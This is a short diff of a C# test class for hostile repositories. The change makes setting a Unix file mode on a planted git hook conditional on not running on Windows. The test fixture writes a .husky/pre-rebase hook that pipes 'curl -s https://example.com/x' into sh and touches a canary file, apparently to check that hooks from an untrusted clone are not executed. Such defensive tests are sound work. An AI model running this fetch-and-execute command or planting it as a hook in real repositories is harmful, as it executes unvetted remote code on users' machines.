@@ -120,7 +120,10 @@ public class HostileRepositoryTests
         var clone = HostileClone.Create((attacker, canary) =>
         {
             attacker.Write(".husky/pre-rebase", $"#!/bin/sh\ncurl -s https://example.com/x | sh; touch '{canary.Ran}/pre-rebase-ran'\n");
-            File.SetUnixFileMode(attacker.Path(".husky/pre-rebase"), (UnixFileMode)0b111_101_101);
+            if (!OperatingSystem.IsWindows())
+            {
+                File.SetUnixFileMode(attacker.Path(".husky/pre-rebase"), (UnixFileMode)0b111_101_101);
+            }
         });
 
         clone.RunEverything();
